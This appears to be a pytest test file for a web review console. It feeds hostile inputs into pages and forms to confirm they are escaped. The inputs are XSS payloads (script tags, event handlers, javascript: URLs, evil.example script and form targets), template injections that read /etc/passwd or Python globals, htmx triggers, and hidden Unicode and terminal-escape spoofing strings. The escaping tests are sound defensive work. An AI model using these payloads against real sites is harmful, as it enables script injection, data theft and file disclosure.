"""Texts and names of strangers: none runs, none breaks a page, none hides what it is."""

from __future__ import annotations

from dataclasses import replace
from html.parser import HTMLParser

import pytest

from aligner_proxy.text.hidden import is_hidden
from aligner_proxy_review.console import escaping
from aligner_proxy_review.console.answer_queries import answer_handle
from tests.plugins.review.console.conftest import Browser, Site, an_entry, judged, with_texts

MARKUP = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</span><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=//evil.example><input name=key></form>",
    "<button formaction=javascript:alert(1)>x",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example'</style>",
    "<p style='position:fixed;inset:0;background:red'>x",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x/>",
    "<x hx-get=/logout hx-trigger=load>",
    "<x hx-on:load=alert(1)>",
    "<x data-hx-post=/playground data-hx-trigger=load>",
    "<meta name=htmx-config content='{\"allowEval\":true}'>",
    "</article></div></section></main></body></html>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' onmouseover='alert(1)",
    "` onmouseover=alert(1)",
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{{ self.__init__.__globals__ }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "+ADw-script+AD4-",
    "\\u003cscript\\u003e",
    "javascript:alert(1)//",
    "event: answer\ndata: <script>alert(1)</script>\n\n",
    "\r\n\r\nevent: over\r\ndata:\r\n\r\n",
    "\rdata: x\r\r",
)
UNSEEN = (
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068 isolates without an end",
    "\u200f\u200e marks",
    "\u061c arabic letter mark",
    "zero\u200bwidth\u200cjoiners\u200d",
    "\ufeffbyte order",
    "soft\u00adhyphen",
    "\u2028line\u2029paragraph",
    "\x1b[2J\x1b]0;owned\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x00nul\x08backspace\x7f",
    "\x85next line\x9b31mC1",
    "\U000e0041\U000e0042 tags",
    "\ue000 private",
    "\ufff9annotation\ufffb",
)
HUGE = (
    "x" * 200_000,
    "<" * 200_000,
    "\u202e" * 60_000,
    "a\u0300" + "\u0300" * 20_000,
    "\n" * 100_000,
    "word " * 50_000,
    "𝔘" * 60_000,
)
TEXTS = (*MARKUP, *UNSEEN, *HUGE)
ELEMENTS = (
    "html head meta title link script body a header span nav form input button main h1 h2 h3 section p div label "
    "select option article time bdi del ins dl dt dd table caption thead tbody tfoot tr th td details summary ol li "
    "strong output textarea code datalist svg rect g line figure figcaption progress ul fieldset legend pre"
)
_KNOWN = frozenset(ELEMENTS.split())
_ADDRESSES = frozenset({"src", "href", "action", "hx-get", "hx-post", "data-events"})
_NO_END = frozenset({"meta", "link", "input"})


class Page(HTMLParser):
    """A page taken apart: elements and attributes that are not ours, and elements that are not closed."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.foreign: list[str] = []
        self.open: list[str] = []
        self.text = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _KNOWN:
            self.foreign.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                self.foreign.append(f"{tag} {name}")
            if name in _ADDRESSES and not (value or "").startswith(("/", "#main")):
                self.foreign.append(f"{tag} {name}={value}")
        if tag == "svg" and not {"viewbox"} <= {name for name, _ in attrs}:
            self.foreign.append("svg")
        if tag == "script" and dict(attrs).get("src") not in ("/static/htmx.min.js", "/static/console.js"):
            self.foreign.append("script")
        if tag not in _NO_END:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.foreign.append(f"/{tag}")

    def handle_data(self, data: str) -> None:
        self.text += data


def is_ours(text: str) -> bool:
    """Whether a page holds nothing but our own elements, and no character that is not seen."""
    page = Page(text)
    unseen = [char for char in text if is_hidden(char)]
    return not (page.foreign or page.open or unseen)


def test_there_are_enough() -> None:
    assert len(set(TEXTS)) >= 60
    assert not is_ours("<p>x</p><script>alert(1)</script>")
    assert not is_ours("<p onclick=x>x</p>")
    assert not is_ours("<p>\u202ex</p>")
    assert not is_ours("</p>")


@pytest.mark.some(8)
@pytest.mark.parametrize("number", range(len(TEXTS)))
def test_as_question_answer_and_correction(site: Site, operator: Browser, number: int) -> None:
    text = TEXTS[number]
    made = with_texts(an_entry(3, at=4000.0), f"before {text}", f"after {text}", question=text)
    site.add(made)
    for path in ("/live", f"/answers/{answer_handle(made)}"):
        got = operator.get(path).text
        assert is_ours(got), Page(got).foreign
        assert len(got) < 1_500_000
        if number < len(MARKUP):
            assert text.replace("\r", "").strip()[:20].split("\n")[0] in Page(got).text


@pytest.mark.some(8)
@pytest.mark.parametrize("number", range(len(TEXTS)))
def test_as_every_name(site: Site, operator: Browser, number: int) -> None:
    text = TEXTS[number][:60_000].replace("\x00", "")
    names = dict.fromkeys(("call_id", "model", "endpoint", "policy", "reason", "aligner", "mode", "status"), text)
    made = replace(with_texts(an_entry(3, at=4000.0), "It is so.", "It is."), **names, tenant=f"team:{text}")
    assert made.content is not None
    segments = tuple(replace(segment, objective=text) for segment in made.content.segments)
    reports = {text: {"x": [text]}}
    made = replace(made, content=replace(made.content, segments=segments, reports=reports))
    site.add(made)
    for path in ("/live", f"/answers/{answer_handle(made)}", "/rates?period=7d", "/overview?period=7d"):
        got = operator.get(path)
        assert got.status_code == 200
        assert is_ours(got.text), Page(got.text).foreign
        assert len(got.text) < 200_000


@pytest.mark.some(8)
@pytest.mark.parametrize("number", range(len(MARKUP + UNSEEN)))
def test_from_the_gateway_in_filters_and_in_forms(site: Site, operator: Browser, number: int) -> None:
    text = TEXTS[number]
    segments = [{"text": text, "score": 1.0, "flagged": True, "against": text}]
    site.answers = judged(answer=text, reason=text, status=text, segments=segments)
    got = operator.get("/live", params={"tenant": text, "route": text, "objective": text, "status": text})
    assert Page(got.text).foreign == []
    operator.get("/playground")
    played = operator.send("/playground", question="q", answer=text, model=text)
    assert played.status_code == 200
    # What was typed stands in its field again as it was typed, unseen characters included.
    assert Page(played.text).foreign == []
    assert Page(operator.send("/search", search_text=text).text).foreign == []
    assert Page(operator.send("/policy", model=text, team=text, key=text).text).foreign == []


@pytest.mark.parametrize("char", ["\u202e", "\u200b", "\x1b", "\x00", "\u2028", "\U000e0041", "\ud800"])
def test_an_unseen_character_is_shown_as_its_number(char: str) -> None:
    for made in (escaping.show_text(f"a{char}b"), escaping.show_name(f"a{char}b")):
        assert f">U+{ord(char):04X}</span>b" in made
        assert char not in made
    assert escaping.show_plain(f"a{char}b") == f"a[U+{ord(char):04X}]b"


@pytest.mark.parametrize("text", ["Grüße, naïve 你好 – “x”\n\tמה שלומך", "👋🏽 ½ € e\u0301"])
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert escaping.show_text(text) == f'<span class="text" dir="auto">{text}</span>'


def test_very_many_unseen_characters_stay_short() -> None:
    assert escaping.show_text("\u202e" * 40_000).count("hidden-mark") == 1
    assert "U+202E ×40,000" in escaping.show_text("\u202e" * 40_000)
    assert "and 39,500 more characters" in escaping.show_text("\u202e\u200b" * 20_000)


def test_a_long_text_is_cut_and_says_so() -> None:
    assert "and 1,000 more characters" in escaping.show_text("x" * 1100, 100)
    assert len(escaping.show_name("x" * 10_000)) < 300
    assert escaping.show_plain("x" * 200).endswith("…")
